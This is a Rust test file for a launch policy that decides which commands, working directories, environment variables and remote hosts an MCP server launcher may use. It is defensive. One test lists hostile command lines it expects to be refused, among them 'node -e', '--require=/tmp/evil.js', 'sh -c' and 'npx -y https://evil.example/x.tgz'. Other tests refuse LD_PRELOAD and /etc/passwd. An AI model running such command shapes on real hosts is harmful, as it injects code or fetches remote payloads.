//! Tests of whole policies.

use std::time::Duration;

use proptest::prelude::*;

use super::{limits::ServerLimits, *};

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(ToString::to_string).collect()
}

fn simple(pattern: &str) -> Policy {
    let argv = ArgvPattern::parse(pattern).unwrap();
    let rule = CommandRule::simple(
        argv,
        &[PathBuf::from("/srv/mcp")],
        &["NODE_OPTIONS".to_owned(), "LOG_*".to_owned()],
    );
    Policy { commands: vec![rule], ..Policy::default() }
}

fn launch(
    policy: &Policy,
    argv: &[String],
    cwd: Option<&str>,
    env: &[&str],
) -> Result<(), Refusal> {
    let env = env.iter().map(|name| (name.to_string(), "x".to_owned())).collect();
    let cwd = cwd.map(|path| NamedPath { written: path, path: Path::new(path) });
    check(policy, argv, LaunchRequest { cwd, env_file: None, env: &env })
}

/// If several rules cover the command line, one that allows the request is enough.
fn check(policy: &Policy, argv: &[String], request: LaunchRequest<'_>) -> Result<(), Refusal> {
    let mut refusal = None;
    for rule in policy.rules_for(argv)? {
        match rule.check(request) {
            Ok(()) => return Ok(()),
            Err(error) => _ = refusal.get_or_insert(error),
        }
    }
    Err(refusal.unwrap_or_else(|| Refusal::command(argv)))
}

#[test]
fn the_default_refuses_everything() {
    let refusal = launch(&Policy::default(), &argv(&["true"]), None, &[]).unwrap_err();
    assert!(refusal.to_string().contains("--allow-command"), "{refusal}");
    assert!(matches!(
        Policy::default().check_remote("example.com", 443),
        Err(Refusal::Remote { .. })
    ));
}

#[test]
fn what_is_defined_twice_is_named() {
    let check = |text: &str, key: &str, line: usize| {
        let error = Policy::from_toml(text).unwrap_err();
        let expected = format!("`{key}` in line {line} is already defined above");
        assert!(error.to_string().contains(&expected), "{error}");
    };
    check("[limits]\nmax_servers = 3\n\nmax_servers = 4\n", "max_servers", 4);
    check("[limits]\nmax_servers = 3\n[limits]\nmax_queued = 4\n", "limits", 3);
    check("[[command]]\nargv = [\"a\"]\n'argv' = [\"b\"]\n", "'argv'", 3);

    // Every other message is the parser's own, with the line.
    let error = Policy::from_toml("[limits]\nmax_servers = \n").unwrap_err();
    assert!(matches!(error, PolicyError::Toml(_)), "{error}");
}

#[test]
fn a_simple_rule_bounds_directories_and_variables() {
    let policy = simple("node server.js");
    let line = argv(&["node", "server.js"]);

    assert_eq!(launch(&policy, &line, None, &["LOG_LEVEL", "NODE_OPTIONS"]), Ok(()));
    let refusal = launch(&policy, &line, None, &["TOKEN"]).unwrap_err().to_string();
    assert!(refusal.contains("`TOKEN`") && refusal.contains("--allow-env"), "{refusal}");

    assert_eq!(launch(&policy, &line, Some("/srv/mcp/a"), &[]), Ok(()));
    assert!(matches!(launch(&policy, &line, Some("/srv/mcp-evil"), &[]), Err(Refusal::Cwd { .. })));
    assert!(matches!(launch(&policy, &line, None, &["LD_PRELOAD"]), Err(Refusal::Env { .. })));

    assert!(matches!(
        launch(&policy, &argv(&["node", "-e"]), None, &[]),
        Err(Refusal::Command { .. })
    ));

    assert!(matches!(
        launch(&policy, &argv(&["node", "server.js\0"]), None, &[]),
        Err(Refusal::ZeroByte { .. })
    ));

    for name in ["A=B", "", "A\nB", "A\0", "A\u{1b}[0m"] {
        assert!(
            matches!(launch(&policy, &line, None, &[name]), Err(Refusal::EnvName { .. })),
            "{name:?}"
        );
    }

    let env = BTreeMap::new();
    let path = "/etc/passwd";
    let env_file = Some(NamedPath { written: path, path: Path::new(path) });
    let request = LaunchRequest { cwd: None, env_file, env: &env };
    assert!(matches!(check(&policy, &line, request), Err(Refusal::EnvFile { .. })));
}

#[test]
fn a_policy_file_is_parsed_strictly() {
    let policy = Policy::from_toml(
        r#"
        [limits]
        max_servers = 3
        handshake_timeout_ms = 500
        [[command]]
        argv = ["uv", "run", "**"]
        cwd = ["/srv"]
        env = ["LOG_*"]
        env_files = ["/etc/mcp"]
        env_passthrough = ["API_KEY"]
        expand = ["TOKEN"]
        [[command]]
        argv = ["uv", "run", "server.py"]
        env = ["PYTHONPATH"]
        [[remote]]
        host = "*.example.com"
        port = 443
        expand = ["KEY"]
        "#,
    )
    .unwrap();

    assert_eq!(policy.limits.max_servers, 3);
    assert_eq!(policy.limits.handshake_timeout, Duration::from_millis(500));
    assert!(policy.commands[0].expand.contains("TOKEN") && policy.commands[1].expand.is_empty());
    assert!(policy.remotes[0].expand.contains("KEY"));

    assert_eq!(launch(&policy, &argv(&["uv", "run", "x"]), Some("/srv/a"), &["LOG_LEVEL"]), Ok(()));
    // The second rule allows what the first does not.
    assert_eq!(launch(&policy, &argv(&["uv", "run", "server.py"]), None, &["PYTHONPATH"]), Ok(()));
    assert!(matches!(
        launch(&policy, &argv(&["uv", "run", "x"]), None, &["PYTHONPATH"]),
        Err(Refusal::Env { .. })
    ));

    assert!(policy.check_remote("a.example.com", 443).is_ok());
    assert!(policy.check_remote("a.example.com", 80).is_err());
    let loopback = "127.0.0.1".parse().unwrap();
    assert!(matches!(
        policy.check_address("a.example.com", 443, loopback),
        Err(Refusal::Address { .. })
    ));

    for bad in [
        "comand = []",
        "expand = [\"TOKEN\"]",
        "[[command]]\nargv = [\"a\"]\nuser = \"root\"",
        "[[command]]\nargv = []",
        "[[command]]\nargv = [\"a\"]\nenv = [\"LOG_*\", \"*\"]",
        "[[command]]\nargv = [\"a\"]\nenv = [\"?*\"]",
        "[limits]\nmax = 1",
        "[[remote]]\nhost = \"a b\"",
        "[[remote]]\nport = 1",
        "[[remote]]\nhost = 'a'\nca_file = 'relative.pem'",
        "[[remote]]\nhost = 'a'\nclient_key_file = '/key.pem'",
    ] {
        assert!(Policy::from_toml(bad).is_err(), "{bad}");
    }

    let everything = Policy::from_toml("\n[[command]]\nargv = [\"a\"]\nenv = [\"*\"]").unwrap_err();
    let text = everything.to_string();
    assert!(
        text.contains("`*` in `env` of the [[command]] in line 3 of the policy file"),
        "{text}"
    );
}

#[test]
fn the_documented_policy_is_valid() {
    let page = include_str!("../../../docs/hosting.md");
    let example = page.split("```toml").nth(1).and_then(|rest| rest.split("```").next()).unwrap();
    let policy = Policy::from_toml(example).unwrap();
    let line = argv(&["uv", "--directory", "/srv/mcp/db", "run", "server.py"]);
    assert_eq!(launch(&policy, &line, Some("/srv/mcp/db"), &["LOG_LEVEL", "PYTHONPATH"]), Ok(()));
    assert!(policy.check_remote("mcp.example.com", 443).is_ok());

    let limits = &policy.limits;
    let tool = limits.of_call("db1", "query_all");
    assert_eq!(tool.server.call_timeout, Duration::from_secs(10));
    assert_eq!(
        (tool.server.max_concurrency.unwrap().get(), tool.tool_concurrency.unwrap().get()),
        (8, 2)
    );

    // Every value that the page calls a default is the default.
    let defaults = Limits::default();
    assert_eq!(limits.max_servers, defaults.max_servers);
    assert_eq!(limits.handshake_timeout, defaults.handshake_timeout);
    assert_eq!(limits.drain_timeout, defaults.drain_timeout);
    let documented = ServerLimits {
        idle_timeout: limits.defaults.idle_timeout,
        process: limits.defaults.process,
        ..ServerLimits::default()
    };
    assert_eq!(limits.defaults, documented);
}

#[test]
fn interpreters_cannot_be_given_code_or_modules() {
    let patterns = [
        "node *",
        "node /srv/mcp/*.js",
        "python3 *",
        "python3 /srv/mcp/*",
        "sh /srv/mcp/*.sh",
        "npx -y *",
    ];

    let policy = Policy {
        commands: patterns
            .iter()
            .map(|pattern| CommandRule::simple(ArgvPattern::parse(pattern).unwrap(), &[], &[]))
            .collect(),
        ..Policy::default()
    };

    for line in [
        &["node", "-e", "evil"][..],
        &["node", "-eevil"],
        &["node", "--eval=evil"],
        &["node", "-p", "evil"],
        &["node", "--require=/tmp/evil.js"],
        &["node", "--require", "/tmp/evil.js", "/srv/mcp/a.js"],
        &["node", "--import=data:text/javascript,evil"],
        &["node", "-r", "/tmp/evil.js"],
        &["node", "-"],
        &["node", "--", "a.js"],
        &["node", "/srv/mcp/../../tmp/evil.js"],
        &["node", "/srv/mcp/a.js", "--inspect"],
        &["python3", "-c", "evil"],
        &["python3", "-cevil"],
        &["python3", "-m", "http.server"],
        &["python3", "-"],
        &["python3", "-i"],
        &["python3", "/srv/mcp/.."],
        &["python3", "/srv/mcp/./../x"],
        &["sh", "-c", "evil"],
        &["sh", "/srv/mcp/a.sh", "-c"],
        &["sh", "/srv/mcp/a/../../../tmp/x.sh"],
        &["npx", "-y", "--package=evil"],
        &["npx", "-y", "file:/tmp/evil"],
        &["npx", "-y", "good@npm:evil"],
        &["npx", "-y", "https://evil.example/x.tgz"],
        &["npx", "-c", "evil"],
        &["Node", "a.js"],
        &["node\n", "a.js"],
        &[" node", "a.js"],
        &["/usr/bin/node", "a.js"],
        &["./node", "a.js"],
        &[],
    ] {
        let refusal = launch(&policy, &argv(line), None, &[]);
        assert!(matches!(refusal, Err(Refusal::Command { .. })), "{line:?}: {refusal:?}");
    }

    assert_eq!(launch(&policy, &argv(&["node", "/srv/mcp/a.js"]), None, &[]), Ok(()));
}

proptest! {
    #[test]
    fn a_fixed_rule_allows_no_other_command_line(words in prop::collection::vec("[a-z/ -]{0,6}", 0..5)) {
        let policy = simple("node server.js");
        prop_assert_eq!(launch(&policy, &words, None, &[]).is_ok(), words == argv(&["node", "server.js"]));
    }

    #[test]
    fn any_text_is_a_policy_or_an_error(text in ".{0,80}") {
        let _policy = Policy::from_toml(&text);
    }
}

#[test]
fn the_tables_about_access_are_left_to_the_crate_that_reads_them() {
    let policy = Policy::from_toml(
        "[access]\ndefault = 'deny'\n\
         [[principal]]\nsubject = 'a'\n\
         [[rule]]\nname = 'r'\n\
         [[limit]]\nname = 'l'\n\
         [[issuer]]\nurl = 'https://idp'\n\
         [[certificate]]\nuri = 'spiffe://d/*'\n\
         [[server]]\nname = 'db'\ntrust_annotations = true\n",
    );
    assert_eq!(policy.unwrap().limits.servers.len(), 1);
    assert!(Policy::from_toml("[[rules]]\nname = 'r'").is_err());
}

#[test]
fn secrets_belong_to_a_rule_and_are_listed_by_name() {
    let policy = Policy::from_toml(
        "[[command]]\nargv = ['x']\nsecrets = ['db.password', 'key']\n[[command]]\nargv = ['y']\n\
         [[remote]]\nhost = 'a.example'\nsecrets = ['token']\n[[remote]]\nhost = 'b.example'",
    )
    .unwrap();
    let listed: Vec<Vec<&str>> = (policy.commands.iter().map(|rule| &rule.secrets))
        .chain(policy.remotes.iter().map(|rule| &rule.secrets))
        .map(|names| names.iter().map(String::as_str).collect())
        .collect();
    assert_eq!(listed, [vec!["db.password", "key"], vec![], vec!["token"], vec![]]);

    for bad in ["*", "a*", "../x", "a/b", ""] {
        for table in ["[[command]]\nargv = ['x']", "[[remote]]\nhost = 'a.example'"] {
            let error = Policy::from_toml(&format!("{table}\nsecrets = ['{bad}']")).unwrap_err();
            assert!(matches!(error, PolicyError::SecretName { .. }), "{bad}: {error}");
        }
    }
}

#[test]
fn tools_are_pinned_where_the_file_says_so() {
    use fleet_pins::PinMode;

    let digest = "0123456789abcdef".repeat(4);
    let pin =
        |sha256: &str| format!("[[pin]]\nserver = 'crm'\ntool = 'get'\nsha256 = '{sha256}'\n");
    let text = format!(
        "[pins]\nmode = 'warn'\n[[server]]\nname = 'crm'\npins = 'block'\n\
         [[server]]\nname = '*'\nmax_queued = 1\n[[server]]\nname = 'x*'\npins = 'off'\n{}{}",
        pin(&digest),
        pin(&digest.replace('0', "1")),
    );
    let pins = Policy::from_toml(&text).unwrap().pins;
    for (server, mode) in [("crm", PinMode::Block), ("db", PinMode::Warn), ("x1", PinMode::Off)] {
        assert_eq!(pins.mode_of(server), mode, "{server}");
    }
    assert_eq!(pins.digests_of("crm", "get").len(), 2);
    assert!(pins.digests_of("crm", "set").is_empty() && pins.is_on());
    assert!(!Policy::default().pins.is_on());

    let bad = [
        format!("[pins]\nmode = 'warn'\n{}", pin("x")),
        "[pins]\nmode = 'ask'\n".to_owned(),
        "[pins]\non = true\n".to_owned(),
    ];
    for bad in bad {
        assert!(Policy::from_toml(&bad).is_err(), "{bad}");
    }
}

#[test]
fn a_pin_that_would_be_ignored_is_refused() {
    let pin = format!("[[pin]]\nserver = 'crm'\ntool = 'get'\nsha256 = '{}'\n", "ab".repeat(32));
    let server = |name: &str, mode: &str| format!("[[server]]\nname = '{name}'\npins = '{mode}'\n");
    for (others, is_good) in [
        (String::new(), false),
        ("[pins]\nmode = 'off'\n".to_owned(), false),
        (format!("[pins]\nmode = 'block'\n{}", server("c*", "off")), false),
        (server("db", "block"), false),
        (server("c*", "block"), true),
        ("[pins]\nmode = 'warn'\n".to_owned(), true),
    ] {
        let found = Policy::from_toml(&format!("{others}{pin}"));
        let is_refused =
            matches!(&found, Err(PolicyError::PinOff { server, .. }) if server == "crm");
        assert_eq!((found.is_ok(), is_refused), (is_good, !is_good), "{others}");
    }
}
